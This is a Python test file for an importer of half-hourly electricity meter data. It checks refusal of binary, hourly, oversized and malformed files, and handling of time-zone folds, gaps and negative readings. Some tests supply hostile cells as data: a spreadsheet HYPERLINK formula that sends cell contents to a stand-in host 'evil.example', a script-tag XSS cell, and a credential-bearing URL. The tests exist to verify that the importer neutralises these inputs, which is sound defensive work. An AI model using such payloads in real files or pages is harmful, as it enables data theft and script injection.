"""Hostile, broken and awkward files: each gets a clear, short, safe message."""

import json

import pytest

from pyruntime.fileformats import MAX_BYTES, ColumnMapping, ImportFailure, NeedsMapping, import_file, sniff_csv
from pyruntime.fileformats.text import snippet

HEADER = "Consumption (kWh), Start, End\n"


def octo_rows(n, start_hour=0, value="0.1"):
    out = []
    for i in range(n):
        h, m = divmod(start_hour * 60 + 30 * i, 60)
        h2, m2 = divmod(start_hour * 60 + 30 * (i + 1), 60)
        out.append(f"{value}, 2023-01-02T{h:02d}:{m:02d}:00+00:00, 2023-01-02T{h2:02d}:{m2:02d}:00+00:00\n")
    return out


def test_formula_and_script_cells_are_skipped_and_never_echoed_in_full():
    rows = octo_rows(6)
    rows[2] = '=HYPERLINK("http://evil.example/?"&A1;"click"), 2023-01-02T01:00:00+00:00, 2023-01-02T01:30:00+00:00\n'
    rows[3] = "0.1, <script>alert(1)</script>, 2023-01-02T02:00:00+00:00\n"
    c = import_file(HEADER + "".join(rows)).channels[0]
    r = c.report.to_json()
    assert c.series.present == 4
    assert r["dropped"] == {"value is not a number": 1, "time not recognised": 1}
    messages = " ".join(p["message"] for p in r["dropped_examples"])
    assert "<script>" not in messages and "evil.example" not in messages
    assert [p["row"] for p in r["dropped_examples"]] == [4, 5]  # file line numbers, header is line 1
    assert "'=HYPERLINK" in messages  # a formula is neutralised, not repeated


def test_snippet_is_short_printable_and_markup_free():
    s = snippet("<b>\x00\x1b[31m" + "x" * 500)
    assert len(s) <= 26 and "<" not in s and "\x00" not in s and "\x1b" not in s


@pytest.mark.parametrize("cell", ["https://evil.example/st", "see https://KEY:pw@api.example/v1/?k=1 now",
                                  "ftp://x", "HTTPS://X.EXAMPLE"])
def test_snippet_never_repeats_a_web_address(cell):
    """A saved reply's link can carry credentials; the message says what it was, not what it said."""
    s = snippet(cell)
    assert "://" not in s and "KEY" not in s and "pw@" not in s
    assert "web address" in s


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (b"PK\x03\x04" + b"\x00" * 100, "Excel"),
        (b"\xd0\xcf\x11\xe0" + b"\x00" * 100, "Excel"),
        (b"%PDF-1.7\n", "PDF"),
        (bytes(range(256)) * 50, "binary"),
        (b"", "empty"),
        (b"   \n\n", "empty"),
    ],
)
def test_non_text_files_are_refused_plainly(data, words):
    with pytest.raises(ImportFailure, match=words):
        import_file(data)


def test_a_file_over_50_mb_is_refused_before_parsing():
    big = b"x" * (MAX_BYTES + 1)
    with pytest.raises(ImportFailure, match="limit is 50 MB"):
        import_file(big)


def test_bom_is_ignored():
    c = import_file(("\ufeff" + HEADER + "".join(octo_rows(4))).encode("utf-8")).channels[0]
    assert c.report.conventions.format_id == "octopus_dashboard"
    assert c.report.encoding == "utf-8 (with byte-order mark)"


def test_hourly_data_is_refused_with_the_reason():
    rows = [f"0.5, 2023-01-02T{h:02d}:00:00+00:00, 2023-01-02T{h + 1:02d}:00:00+00:00\n" for h in range(20)]
    with pytest.raises(ImportFailure, match=r"each cover 1 hour.*half-hourly"):
        import_file(HEADER + "".join(rows))
    with pytest.raises(ImportFailure, match="1 hour apart"):
        import_file("time,kWh\n" + "".join(f"2023-01-02T{h:02d}:00:00Z,0.5\n" for h in range(20)))


def test_daily_totals_are_refused():
    text = "date,kWh\n" + "".join(f"2023-01-{d:02d},8.5\n" for d in range(1, 20))
    with pytest.raises(ImportFailure, match="1 day apart"):
        import_file(text)


def test_conflicting_duplicates_keep_the_first_and_say_so():
    rows = octo_rows(4)
    rows.append(rows[1].replace("0.1", "0.7", 1))
    c = import_file(HEADER + "".join(rows)).channels[0]
    r = c.report.to_json()
    assert r["duplicates_conflicting"] == 1 and r["duplicates_identical"] == 0
    assert r["conflict_examples"][0]["row"] == 6 and "row 3" in r["conflict_examples"][0]["message"]
    assert c.series.values[1] == 0.1


def test_meter_error_sentinels_are_dropped_and_negatives_set_aside_as_faulty():
    rows = octo_rows(5)
    rows[1] = rows[1].replace("0.1", "16777.215", 1)
    rows[3] = rows[3].replace("0.1", "-0.2", 1)
    c = import_file(HEADER + "".join(rows)).channels[0]
    r = c.report.to_json()
    assert r["sentinels"] == 1 and r["sentinel_examples"][0]["row"] == 3
    assert c.series.values[1] is None
    assert r["faulty"] == 1 and r["faulty_total"] == -0.2 and c.faulty == ((c.series.start + 3 * 1800, -0.2),)
    assert c.series.values[3] is None
    assert r["gaps"] == [{"start": "2023-01-02T00:30:00Z", "end": "2023-01-02T01:00:00Z", "half_hours": 1},
                         {"start": "2023-01-02T01:30:00Z", "end": "2023-01-02T02:00:00Z", "half_hours": 1}]



def test_one_skipped_row_is_counted_in_the_singular():
    rows = octo_rows(6)
    rows[2] = "1.2.3, 2023-01-02T01:00:00+00:00, 2023-01-02T01:30:00+00:00\n"
    warnings = import_file(HEADER + "".join(rows)).channels[0].report.warnings
    assert "1 row skipped: value is not a number." in warnings
    assert not any("1 rows" in w for w in warnings)


def test_one_negative_reading_names_its_value_once():
    rows = octo_rows(5)
    rows[3] = rows[3].replace("0.1", "-5", 1)
    warning = next(w for w in import_file(HEADER + "".join(rows)).channels[0].report.warnings if "below zero" in w)
    assert warning.count("-5 kWh") == 1
    assert warning.startswith("1 half-hour read below zero (-5 kWh), which a meter cannot record: treated as a meter "
                              "error and left out of every total")


def test_several_negative_readings_give_their_range_and_total():
    rows = octo_rows(6)
    rows[1] = rows[1].replace("0.1", "-5", 1)
    rows[3] = rows[3].replace("0.1", "-2", 1)
    warning = next(w for w in import_file(HEADER + "".join(rows)).channels[0].report.warnings if "below zero" in w)
    assert "2 half-hours read below zero (-5 kWh to -2 kWh)" in warning
    assert "(-7 kWh)" in warning

def test_gaps_are_left_as_none_and_listed():
    rows = octo_rows(10)
    del rows[3:6]
    c = import_file(HEADER + "".join(rows)).channels[0]
    assert c.series.values[3:6] == (None, None, None)
    assert c.report.gaps[0][2] == 3


def test_times_in_the_skipped_spring_hour_mean_utc_for_a_naive_file():
    rows = "".join(f"2023-03-26 {h:02d}:{m:02d}:00,0.2\n" for h in range(4) for m in (0, 30))
    c = import_file("Timestamp,Value\n" + rows).channels[0]
    assert c.report.conventions.timezone == "UTC" and c.series.present == 8


def test_mapped_london_file_drops_times_that_do_not_exist():
    rows = "".join(f"2023-03-26 {h:02d}:{m:02d}:00,0.2\n" for h in range(4) for m in (0, 30))
    m = ColumnMapping("Timestamp", "Value", unit="kWh", stamp="start", timezone="Europe/London")
    c = import_file("Timestamp,Value\n" + rows, mapping=m).channels[0]
    r = c.report.to_json()
    assert c.series.present == 6
    assert sum(r["dropped"].values()) == 2 and r["dropped_examples"][0]["row"] == 4


def test_naive_fold_in_time_order_reads_first_as_bst():
    times = ["00:00", "00:30", "01:00", "01:30", "01:00", "01:30", "02:00"]
    text = "Timestamp,Value\n" + "".join(f"2023-10-29 {t}:00,{i + 1}\n" for i, t in enumerate(times))
    c = import_file(text, mapping=ColumnMapping(0, 1, unit="Wh")).channels[0]
    # 00:00 BST = 23:00Z; then 23:30Z, 00:00Z (01:00 BST), 00:30Z, 01:00Z (01:00 GMT), 01:30Z, 02:00Z
    assert c.series.values == (0.001, 0.002, 0.003, 0.004, 0.005, 0.006, 0.007)
    (note,) = c.report.dst_notes
    assert "first of each pair was read as BST" in note


def test_naive_fold_newest_first_reads_second_as_bst():
    times = ["02:00", "01:30", "01:00", "01:30", "01:00", "00:30", "00:00"]
    text = "Timestamp,Value\n" + "".join(f"2023-10-29 {t}:00,{7 - i}\n" for i, t in enumerate(times))
    c = import_file(text, mapping=ColumnMapping(0, 1, unit="Wh")).channels[0]
    assert c.series.values == (0.001, 0.002, 0.003, 0.004, 0.005, 0.006, 0.007)


def test_unrecognised_layout_asks_for_a_mapping_with_suggestions():
    text = "meter,when,reading,cost\nA,2023-01-02 00:00,0.2,3\nA,2023-01-02 00:30,0.3,4\n"
    with pytest.raises(NeedsMapping) as e:
        import_file(text)
    s = json.loads(json.dumps(e.value.to_json()))["suggestions"]  # as the page gets it
    assert s["headers"] == ["meter", "when", "reading", "cost"]
    assert s["time_columns"] == [1] and s["number_columns"] == [2, 3]
    c = import_file(text, mapping=ColumnMapping("when", "reading")).channels[0]
    assert c.series.values == (0.2, 0.3)


def test_sniff_csv_previews_sanitised_cells():
    text = "Time,Usage (kWh)\n2023-01-02 00:00,<b>0.2</b>\n2023-01-02 00:30,0.3\n"
    s = sniff_csv(text)
    assert s.preview[0][1] == "‹b›0.2‹/b›"
    assert s.suggested.timestamp_column == 0


def test_mapping_names_a_missing_column_plainly():
    with pytest.raises(ImportFailure, match="not in this file's first row"):
        import_file("a,b\n2023-01-02 00:00,1\n", mapping=ColumnMapping("Time", "b"))


def test_mostly_broken_file_is_refused_with_the_first_row_number():
    text = HEADER + "".join(f"junk{i}, nonsense, more\n" for i in range(30)) + "".join(octo_rows(2))
    with pytest.raises(ImportFailure, match="row 2") as e:
        import_file(text)
    assert e.value.row == 2


def test_broken_json_names_the_line():
    with pytest.raises(ImportFailure, match=r"stops in the middle \(it ends at line 2, character 32"):
        import_file('{"results": [\n{"consumption": 1,\n')


def test_unknown_json_is_refused():
    with pytest.raises(ImportFailure, match="don't recognise this JSON"):
        import_file('{"hello": "world"}')


def test_deeply_nested_json_is_refused():
    with pytest.raises(ImportFailure):
        import_file("[" * 100000 + "]" * 100000)


def test_huge_csv_field_is_refused_with_its_row():
    text = HEADER + "".join(octo_rows(2)) + '"' + "x" * 200000 + '", a, b\n'
    with pytest.raises(ImportFailure, match=r"[Rr]ow"):
        import_file(text)
